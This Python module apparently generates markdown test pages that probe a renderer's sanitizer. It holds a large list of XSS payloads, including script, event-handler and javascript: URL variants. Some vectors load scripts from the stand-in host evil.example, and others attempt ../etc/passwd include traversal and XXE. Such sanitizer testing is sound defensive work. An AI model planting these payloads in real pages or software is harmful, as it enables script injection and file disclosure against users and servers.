"""Markdown that would like to run a script or to load something, one vector a paragraph."""

CALL = "hit({n})"
HOST = "http://evil.example"

TAGS = [
    '<script>{call}</script>', '<ScRiPt>{call}</sCrIpT>', '<script src="{host}/{n}.js"></script>',
    '<script\n>{call}</script>', '<script/x>{call}</script>', '<<script>{call}//<</script>', '<script>{call}',
    '<svg><script>{call}</script></svg>', '<svg/onload={call}>', '<svg onload="{call}"></svg>',
    '<svg><animate onbegin={call} attributeName=x dur=1s></svg>', '<svg><set attributeName=href to=javascript:{call}></svg>',
    '<svg><a xlink:href="javascript:{call}"><text x=20 y=20>x</text></a></svg>',
    '<svg><foreignObject><img src=x onerror={call}></foreignObject></svg>', '<svg><style><img src=x onerror={call}></style></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>{call}</script></svg>#x"></svg>',
    '<svg><image href="{host}/{n}.png"></svg>', '<svg><desc><![CDATA[</desc><script>{call}</script>]]></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror={call}></style></mglyph></table></mtext></math>',
    '<math href="javascript:{call}">x</math>', '<math><maction actiontype="statusline#{host}" xlink:href="javascript:{call}">x</maction></math>',
    '<math><annotation-xml encoding="text/html"><script>{call}</script></annotation-xml></math>',
    '<img src=x onerror={call}>', '<img src=x onerror="{call}">', "<img src='x' onerror='{call}'>", '<IMG SRC=x OnErRoR={call}>',
    '<img/src=x/onerror={call}>', '<img src=x\nonerror={call}>', '<img src=x\tonerror\t=\t{call}>', '<img src=x onerror\n=\n"{call}">',
    '<img src="x` onerror={call}>', '<img src="x\'"onerror={call}>', '<img """><script>{call}</script>">', '<img src=x onerror=&#104;it({n})>',
    '<img src=x onerror="&#x68;&#x69;&#x74;({n})">', '<img srcset="{host}/{n}.png 1x">', '<img src="{host}/{n}.png">', '<img src="//evil.example/{n}.png">',
    '<img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'{call}\'/>">', '<img lowsrc="javascript:{call}">', '<img dynsrc="javascript:{call}">',
    '<img src=x style="background:url({host}/{n})">', '<image src=x onerror={call}>', '<picture><source srcset="{host}/{n}.png"><img alt="x"></picture>',
    '<iframe src="javascript:{call}"></iframe>', '<iframe srcdoc="<script>parent.{call}</script>"></iframe>', '<iframe src="{host}/{n}"></iframe>',
    '<iframe srcdoc="&lt;img src=x onerror=parent.{call}&gt;"></iframe>', '<iframe src="data:text/html,<script>parent.{call}</script>"></iframe>', '<iframe/onload={call}>',
    '<frameset onload={call}><frame src="{host}/{n}"></frameset>', '<object data="javascript:{call}"></object>', '<object data="{host}/{n}.swf"></object>',
    '<object data="data:text/html,<script>{call}</script>"></object>', '<embed src="javascript:{call}">', '<embed src="{host}/{n}.swf">', '<applet code="{host}/{n}.class"></applet>',
    '<body onload={call}>', '<body background="{host}/{n}.png">', '<html onmouseover={call}>', '<head><base href="{host}/"></head>', '<base href="{host}/">',
    '<link rel=stylesheet href="{host}/{n}.css">', '<link rel="prefetch" href="{host}/{n}">', '<link rel="dns-prefetch" href="//evil.example">', '<link rel=import href="data:text/html,<script>{call}</script>">',
    '<meta http-equiv="refresh" content="0;url=javascript:{call}">', '<meta http-equiv="refresh" content="0;url={host}/{n}">', '<meta http-equiv="Content-Security-Policy" content="default-src *">',
    '<style>@import "{host}/{n}.css";</style>', '<style>body{{background:url({host}/{n})}}</style>', '<style><img src=x onerror={call}></style>', '<style></style><img src=x onerror={call}>',
    '<video src=x onerror={call}></video>', '<video poster="{host}/{n}.png"></video>', '<video><source src="{host}/{n}.mp4" onerror={call}></video>', '<audio src="{host}/{n}.mp3" autoplay></audio>',
    '<audio src=x onerror={call}></audio>', '<video><track default src="{host}/{n}.vtt"></video>', '<details open ontoggle={call}>x</details>', '<input autofocus onfocus={call}>', '<input type=image src="{host}/{n}.png">',
    '<input type=image formaction="javascript:{call}">', '<select autofocus onfocus={call}><option>x</select>', '<textarea autofocus onfocus={call}></textarea>', '<keygen autofocus onfocus={call}>',
    '<button formaction="javascript:{call}">x</button>', '<form action="javascript:{call}"><button>x</button></form>', '<form action="{host}/{n}"><input name=a></form>', '<isindex action="javascript:{call}" type=image>',
    '<marquee onstart={call}>x</marquee>', '<div onpointerover={call} style="position:fixed;inset:0">x</div>', '<div style="background:url(\'{host}/{n}\')">x</div>', '<div style="width:expression({call})">x</div>',
    '<p style="-moz-binding:url({host}/{n})">x</p>', '<div style="background:\\75rl({host}/{n})">x</div>', '<div style="list-style:url({host}/{n})">x</div>', '<table background="{host}/{n}.png"><tr><td background="{host}/{n}b.png">x</table>',
    '<a href="javascript:{call}">x</a>', '<a href="JaVaScRiPt:{call}">x</a>', '<a href=" &#14; javascript:{call}">x</a>', '<a href="java\tscript:{call}">x</a>', '<a href="java\nscript:{call}">x</a>',
    '<a href="&#106;avascript:{call}">x</a>', '<a href="&#x6A;avascript&colon;{call}">x</a>', '<a href="javascript&#58;{call}">x</a>', '<a href="data:text/html,<script>{call}</script>">x</a>',
    '<a href="vbscript:MsgBox({n})">x</a>', '<a href="x" ping="{host}/{n}">x</a>', '<a href="x" onclick="{call}" autofocus onfocus="{call}" tabindex=1>x</a>', '<a href="\x01javascript:{call}">x</a>',
    '<a name="x" id="x" onfocus={call} tabindex=0 autofocus>x</a>', '<area href="javascript:{call}">', '<map name=m><area shape=default href="javascript:{call}"></map><img usemap=#m alt="x">',
    '<noscript><p title="</noscript><img src=x onerror={call}>"></noscript>', '<template><script>{call}</script></template>', '<xmp><p title="</xmp><script>{call}</script>"></xmp>', '<plaintext><script>{call}</script>',
    '<title><img title="</title><img src=x onerror={call}>"></title>', '<textarea><img title="</textarea><img src=x onerror={call}>"></textarea>', '<listing>&lt;img src=x onerror={call}&gt;</listing>',
    '<!--><img src=x onerror={call}>-->', '<!-- --!><img src=x onerror={call}> -->', '<!--[if gte IE 4]><script>{call}</script><![endif]-->', '<?xml-stylesheet href="javascript:{call}"?>', '<!DOCTYPE x [<!ENTITY y SYSTEM "{host}/{n}">]>&y;',
    '<![CDATA[<script>{call}</script>]]>', '</p><script>{call}</script>', '</main></body><script>{call}</script>', '</td></table><script>{call}</script>', '<x onclick={call} id=x tabindex=1 autofocus onfocus={call}>x</x>',
    '<custom-element onconnected={call}></custom-element>', '<slot onslotchange={call}></slot>', '<dialog open oncancel={call}>x</dialog>', '<div popover ontoggle={call} id=p{n}>x</div>', '<portal src="{host}/{n}"></portal>',
    '<img src=x:x onerror={call} x', '<a href="x"onclick={call}//', '<div title="`<img src=x onerror={call}>`">x</div>', '<abbr title=\'"><img src=x onerror={call}>\'>x</abbr>', '<span lang=\'"><script>{call}</script>\'>x</span>',
    '<div class=\'x" onmouseover="{call}\'>x</div>', '<h2 id=\'x"><script>{call}</script>\'>x</h2>', '<col span=\'1" onload="{call}\'>', '<time datetime=\'"><script>{call}</script>\'>x</time>', '<object classid="clsid:0" codebase="{host}/{n}"></object>',
]

URLS = [
    'javascript:{call}', 'JAVASCRIPT:{call}', 'javascript&colon;{call}', '&#106;avascript:{call}', 'java&Tab;script:{call}', 'java&NewLine;script:{call}', '&#1;javascript:{call}', '%6Aavascript:{call}',
    'javascript://evil.example/%0a{call}', 'data:text/html,<script>{call}</script>', 'data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=', 'data:image/svg+xml,<svg/onload={call}>', 'vbscript:{call}', 'view-source:javascript:{call}',
    'feed:javascript:{call}', 'blob:javascript:{call}', 'jar:javascript:{call}!/', 'x" onclick="{call}', "x' onclick='{call}", 'x"><script>{call}</script>',
]

USES = ['[x](<{url}>)', '![x](<{url}>)', '[x][r{n}]\n\n[r{n}]: <{url}>', '<a href="{url}">x</a>', '[![x](a.png)](<{url}>)']

MARKDOWN = [
    '```js" onload="{call}\nx\n```', '```"><script>{call}</script>\nx\n```', '~~~ x\' onclick=\'{call}\nx\n~~~', '``` <img src=x onerror={call}>\nx\n```', '```{{.js onclick="{call}"}}\nx\n```',
    '[x](a "\\" onclick=\\"{call}")', '[x](a \'"><script>{call}</script>\')', '![x](a.png "\\"><img src=x onerror={call}>")', '![\\"><script>{call}</script>](a.png)', '[<img src=x onerror={call}>](a)',
    '## Heading {{#x" onclick="{call}}}', '## <script>{call}</script>', '## Heading {{onclick={call}}}', '## [x](javascript:{call})', '## "><script>{call}</script>',
    '| a | b |\n|-|-|\n| <script>{call}</script> | <img src=x onerror={call}> |', '| <svg onload={call}> | b |\n|-|-|\n| x | y |', '| a | b |\n|-|-|\n| [x](javascript:{call}) | `<script>{call}</script>` |',
    '> [!NOTE"><script>{call}</script>]\n> x', '> [!NOTE]\n> <script>{call}</script>', ':::image source="javascript:{call}" alt-text="x":::', ':::image source="{host}/{n}.png" alt-text="\\" onload=\\"{call}":::',
    ':::image type="icon" source="x.png\\" onerror=\\"{call}":::', ':::video source="javascript:{call}":::', '> [!VIDEO javascript:{call}]', '> [!VIDEO {host}/{n}]', ':::zone pivot="x\\" onclick=\\"{call}"\nx\n:::zone-end',
    ':::moniker range="><script>{call}</script>"\nx\n:::moniker-end', ':::row onclick="{call}":::\nx\n:::row-end:::', ':::code language="js" source="../../../../etc/passwd":::', '[!INCLUDE [x](../../../../etc/passwd)]',
    '[!INCLUDE [x](/etc/passwd)]', '[!INCLUDE [x]({host}/{n}.md)]', '[!INCLUDE [<script>{call}</script>](missing.md)]', '[!div class="x\\" onclick=\\"{call}"]\n> x', '# [x" onclick="{call}](#tab/a"onclick={call})\n\ntext\n\n---',
    '# [<script>{call}</script>](#tab/b{n})\n\ntext\n\n---', '{{{{< figure src="javascript:{call}" title="<script>{call}</script>" >}}}}', '{{{{< figure src="{host}/{n}.png" link="javascript:{call}" >}}}}', '{{{{< youtube "x\\" onload=\\"{call}" >}}}}',
    '{{{{< x onclick="{call}" >}}}}y{{{{< /x >}}}}', '{{{{% note %}}}}\n<script>{call}</script>\n{{{{% /note %}}}}', '{{{{< tab name="<img src=x onerror={call}>" >}}}}x{{{{< /tab >}}}}', '{{{{< relref "javascript:{call}" >}}}}', '[x]({{{{< ref "javascript:{call}" >}}}})',
    '!!! note "<script>{call}</script>"\n    x', '=== "x\\" onclick=\\"{call}"\n    x', '{{% raw %}}<script>{call}</script>{{% endraw %}}', '{{: onclick="{call}" }}', '{{% include "../../../../etc/passwd" %}}',
    '<Tabs><TabItem label="<script>{call}</script>" value="x">\n\nx\n\n</TabItem></Tabs>', '<Admonition type="x" title="<img src=x onerror={call}>">x</Admonition>', '{{hit({n})}}', 'export const x = {call}', "import x from '{host}/{n}.js'",
    '[^n{n}]\n\n[^n{n}]: <script>{call}</script>', '[^"onclick={call}]\n\n[^"onclick={call}]: x', '- [ ] <img src=x onerror={call}>', '<javascript:{call}>', '<http://x"onclick={call}>', 'http://x"onclick={call}',
    '*<script>*{call}*</script>*', '`<script>`{call}`</script>`', '\\<script>{call}</script>', '&lt;script&gt;{call}&lt;/script&gt;', '&#60;script&#62;{call}&#60;/script&#62;', '<a href="`javascript:{call}`">x</a>', '\ufeff<script>{call}</script>', '<scr\u0000ipt>{call}</scr\u0000ipt>',
]

FRONT_MATTER = """---
title: '"><script>hit(9001)</script>'
description: '"><img src=x onerror=hit(9002)>'
layout: '../../../../etc/passwd'
ms.translationtype: '<script>hit(9003)</script>'
weight: '<script>hit(9004)</script>'
---

# Hostile

"""


def vectors():
    """Each with its number in it."""
    patterns = list(TAGS) + list(MARKDOWN)
    patterns += [use.replace("{url}", url) for url in URLS for use in USES]
    return [
        pattern.replace("{call}", CALL).replace("{host}", HOST).replace("{n}", str(n)).replace("{{", "{").replace("}}", "}")
        for n, pattern in enumerate(patterns, 1)
    ]


def pages(each=5):
    """The vectors in articles, some to a page, so that one that swallows the rest hides few."""
    every = vectors()
    chunks = [every[start:start + each] for start in range(0, len(every), each)]
    texts = {}
    for number, chunk in enumerate(chunks):
        parts = [f"Vector.\n\n{vector}\n" for vector in chunk]
        texts[f"page-{number:03}.md"] = FRONT_MATTER + "\n".join(parts)
    return texts
